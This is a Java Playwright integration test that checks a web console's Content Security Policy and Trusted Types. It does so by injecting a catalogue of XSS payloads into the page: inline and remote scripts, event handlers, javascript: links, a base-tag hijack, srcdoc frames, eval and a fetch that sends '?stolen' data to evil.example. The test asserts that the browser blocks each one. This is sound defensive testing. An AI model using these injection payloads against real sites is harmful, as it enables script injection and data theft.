package org.ticketstream.browser;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.APIResponse;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Route;
import java.util.List;
import org.assertj.core.api.InstanceOfAssertFactories;
import org.assertj.core.api.InstanceOfAssertFactory;
import org.assertj.core.api.ListAssert;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** What would happen if markup of somebody else got into the page after all: it neither runs nor loads. */
class ContentPolicyIT {
    private static final String WATCH = "window.violations = []; document.addEventListener('securitypolicyviolation',"
            + " event => window.violations.push(event.effectiveDirective));";
    private static final String MARKUP = "<base href='https://evil.example/'>"
            + "<script>window.attacked = 'inline'</script>"
            + "<script src='https://evil.example/x.js'></script>"
            + "<script src='data:text/javascript,window.attacked=1'></script>"
            + "<img src='https://evil.example/x.png' onerror='window.attacked = \"handler\"'>"
            + "<svg onload='window.attacked = \"svg\"'></svg>"
            + "<a id='evil' href='javascript:window.attacked=\"url\"'>x</a>"
            + "<form id='out' action='https://evil.example/'><button>x</button></form>"
            + "<iframe srcdoc='<script>parent.attacked=\"frame\"</script>'></iframe>"
            + "<object data='https://evil.example/x.swf'></object>"
            + "<style>body { display: none }</style><p style='position: fixed'>x</p>"
            + "<link rel='stylesheet' href='https://evil.example/x.css'>";
    /** Later, by itself: what a test evaluates at once may call eval, whatever the page says. */
    private static final String INSERT = "() => new Promise(done => setTimeout(() => { const refused = [];"
            + "const attempt = (name, action) => { try { action(); } catch (e) { refused.push(name); } };"
            + "const made = name => document.body.appendChild(document.createElement(name));"
            + "attempt('innerHTML', () => { made('div').innerHTML = '<img src=x onerror=window.attacked=1>'; });"
            + "attempt('script text', () => { made('script').text = 'window.attacked = 1'; });"
            + "attempt('script src', () => { made('script').src = 'https://evil.example/x.js'; });"
            + "attempt('srcdoc', () => { made('iframe').srcdoc = '<script>parent.attacked = 1</script>'; });"
            + "attempt('write', () => document.write('<script>window.attacked = 1</script>'));"
            + "attempt('eval', () => (0, eval)('window.attacked = 1'));"
            + "attempt('Function', () => new Function('window.attacked = 1')());"
            + "attempt('policy', () => trustedTypes.createPolicy('evil', {createHTML: text => text}));"
            + "const script = document.createElement('script'); script.append('window.attacked = 1');"
            + "attempt('script node', () => document.body.append(script));"
            + "const image = made('img');"
            + "attempt('handler', () => { image.setAttribute('onerror', 'window.attacked = 1'); image.src = 'x'; });"
            + "const link = made('a'); link.href = 'javascript:window.attacked = 1'; link.click();"
            + "done(refused); }))";

    private static final InstanceOfAssertFactory<List, ListAssert<String>> LIST =
            InstanceOfAssertFactories.list(String.class);

    private static ConsoleSystem system;

    @BeforeAll
    static void start() throws Exception {
        Chromium.get();
        system = ConsoleSystem.get();
    }

    /** As if the server had written it into the page, with the headers that it sends. */
    private static void inject(Route route) {
        APIResponse response = route.fetch();
        route.fulfill(new Route.FulfillOptions()
                .setResponse(response)
                .setBody(response.text().replace("<head>", "<head>" + MARKUP)));
    }

    /** The browser's own way to wait calls eval later, which the page refuses. */
    private static void await(Page page, String condition) {
        page.waitForCondition(() -> Boolean.TRUE.equals(page.evaluate("Boolean(" + condition + ")")));
    }

    private static List<?> violations(Page page) {
        return (List<?>) page.evaluate("window.violations");
    }

    @Test
    void markupInThePageIsDead() {
        try (Chromium.Window window = Chromium.Window.open()) {
            Page page = window.page();
            page.addInitScript(WATCH);
            page.route(system.url() + "/health", ContentPolicyIT::inject);
            page.navigate(system.url() + "/health");
            await(page, "document.querySelector('#app h1')");
            page.evaluate("document.getElementById('evil').click()");
            page.evaluate("document.getElementById('out').requestSubmit()");
            await(page, "window.violations.includes('form-action')");

            assertThat(page.evaluate("window.attacked")).isNull();
            assertThat(page.url()).isEqualTo(system.url() + "/health");
            assertThat(page.evaluate("document.baseURI")).isEqualTo(system.url() + "/health");
            assertThat(violations(page))
                    .as("what the browser has refused")
                    .asInstanceOf(LIST)
                    .contains(
                            "base-uri",
                            "script-src-elem",
                            "script-src-attr",
                            "img-src",
                            "object-src",
                            "style-src-elem",
                            "style-src-attr");
        }
    }

    @Test
    void scriptsOfThePageCannotMakeMarkupOfTexts() {
        try (Chromium.Window window = Chromium.Window.open()) {
            Page page = window.page();
            page.addInitScript(WATCH);
            page.navigate(system.url());
            await(page, "document.querySelector('#app h1, #app .state')");
            assertThat(page.evaluate(INSERT))
                    .asInstanceOf(LIST)
                    .contains(
                            "innerHTML", "script text", "script src", "srcdoc", "write", "eval", "Function", "policy");
            await(page, "window.violations.length > 3");
            assertThat(page.evaluate("window.attacked")).isNull();
            assertThat(page.evaluate("fetch('https://evil.example/?stolen').then(() => 'sent', () => 'refused')"))
                    .isEqualTo("refused");
            assertThat(violations(page).toString()).contains("connect-src", "require-trusted-types-for");
        }
    }
}
